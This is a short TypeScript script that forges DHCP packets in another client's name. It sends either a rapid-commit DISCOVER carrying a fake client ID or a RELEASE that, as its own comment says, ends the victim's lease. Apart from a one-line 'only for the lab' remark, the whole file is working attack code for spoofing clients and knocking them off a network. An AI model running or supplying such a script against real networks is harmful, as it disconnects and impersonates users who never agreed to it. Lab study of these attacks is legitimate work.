// DHCP in another's name: `dhcp-forge.ts INTERFACE SOURCE-MAC CHADDR discover|release [CIADDR SERVER]`. Only for the lab.
import { dhcpFrame, frameSender } from "./dhcp-frame.ts";

const FOREIGN_CLIENT_ID = [61, 7, 0, ...Buffer.from("forged")];

const [device = "", source = "", victim = "", kind = "discover", ciaddr = "0.0.0.0", server = "0.0.0.0"] =
  process.argv.slice(2);
const ipv4 = (text: string) => text.split(".").map(Number);
const mac = (text: string) => text.split(":").map((byte) => Number.parseInt(byte, 16));

// With rapid commit (RFC 4039) one packet is the whole of a DHCP exchange; a release ends the victim's own lease.
const options =
  kind === "release"
    ? [53, 1, 7, 54, 4, ...ipv4(server), 61, 7, 1, ...mac(victim), 255]
    : [53, 1, 1, 80, 0, ...FOREIGN_CLIENT_ID, 255];
const message = {
  source: mac(source),
  chaddr: mac(victim),
  ciaddr: ipv4(ciaddr),
  transaction: 0x0f0e0d0c,
  options,
};
if (!frameSender(device)(dhcpFrame(message))) throw new Error("not sent");
console.log(`sent a ${kind} in the name of ${victim}`);
